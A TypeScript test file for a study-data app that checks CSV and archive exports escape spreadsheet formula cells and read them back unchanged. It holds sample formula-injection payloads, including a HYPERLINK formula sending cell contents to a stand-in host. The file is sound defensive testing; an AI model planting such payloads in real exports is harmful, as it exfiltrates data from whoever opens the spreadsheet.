import { afterAll, beforeAll, expect, it } from 'vitest';
import { SYSTEM } from '../../db/index.ts';
import { writeStudyArchive } from '../../exporters/study-archive/archive.ts';
import { readAnnotationLabels } from '../../importers/csv/side-files.ts';
import { temporaryFolder } from '../../testing/signal-fixtures.ts';
import { startTestApi, type TestApi } from '../../testing/test-api.ts';
import { unpackStudyExport } from '../../testing/test-study-export.ts';
import { csvRows } from '../../testing/zip-contents.ts';

const FORMULAS = ['=HYPERLINK("http://x.example?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '＝1+1'];
/** Beginnings of cells that are not formulas. */
const NUMBERS = ['-1.5', '+3', '-1e-7'];

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
  const place = { studyId: api.studyId, subjectId: api.subjectIds[0]! };
  await api.store.subjects.update(place.subjectId, { displayName: FORMULAS[0]! }, SYSTEM);
  const values = [...FORMULAS, ...NUMBERS];
  const labels = values.map((value, i) => {
    const at = api.clock.now() + i;
    return { ...place, type: 'recording' as const, displayName: value, value, startTs: at, stopTs: at };
  });
  await api.store.annotations.addLabels(labels, { actor: { type: 'USER', id: api.admin.userId } });
});
afterAll(async () => await api.close());

/** Cells that a spreadsheet evaluates as formulas. */
const run = (rows: string[][]) =>
  rows.flat().filter((cell) => /^[=+\-@\t\r＝]/.test(cell) && !NUMBERS.includes(cell) && !/^[+-]\d\d:\d\d$/.test(cell));

it('escapes formula cells in the annotations CSV, which reads back unchanged', async () => {
  const params = { studyId: api.studyId, subjectId: api.subjectIds[0]! };
  const csv = await (await api.client.fetch('downloadAnnotationsCsv', { params })).text();
  const [header, ...rows] = csvRows(csv);
  expect(run(rows)).toEqual([]);
  expect(rows.map((row) => row[6])).toEqual([...FORMULAS.map((text) => `'${text}`), ...NUMBERS]);
  expect(header).toEqual([
    'Timestamp (ms)',
    'AnnotationId',
    'EventType',
    'AuthorId',
    'Start Timestamp (ms)',
    'Stop Timestamp (ms)',
    'Value',
  ]);
  const member = {
    name: 'annotations.csv',
    sizeBytes: csv.length,
    async *open() {
      yield Buffer.from(csv);
    },
  };
  const labels = await readAnnotationLabels(member);
  expect(labels.map(({ displayName }) => displayName)).toEqual([...FORMULAS, ...NUMBERS]);
  expect(labels.map(({ value }) => value)).toEqual([...FORMULAS, ...NUMBERS]);
});

it('escapes formula cells in every table of the study archive', async () => {
  const source = { store: api.store, signalsDir: api.deps.signalsDir };
  const folder = temporaryFolder();
  const { members } = await unpackStudyExport(writeStudyArchive, source, folder.path, { studyId: api.studyId });
  folder.remove();
  const tables = [...members].filter(([name]) => name.endsWith('.csv'));
  expect(tables.length).toBeGreaterThan(5);
  for (const [name, bytes] of tables) expect({ name, run: run(csvRows(String(bytes))) }).toEqual({ name, run: [] });
  expect(String(members.get('subjects.csv'))).toContain(`"'=HYPERLINK(""http`);
  expect(String(members.get('annotations.csv'))).toContain(',-1.5,');
});
